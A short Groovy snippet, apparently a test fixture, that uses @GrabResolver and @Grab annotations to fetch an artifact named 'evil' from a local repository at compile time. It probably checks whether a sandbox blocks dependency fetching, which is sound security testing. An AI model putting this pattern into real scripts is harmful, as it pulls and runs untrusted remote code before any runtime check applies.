// compile-time code: tries a resolver of grapes.
@GrabResolver(name = 'x', root = 'http://127.0.0.1:@PORT@/')
@Grab('org.example:evil:1.0')
def x = 1
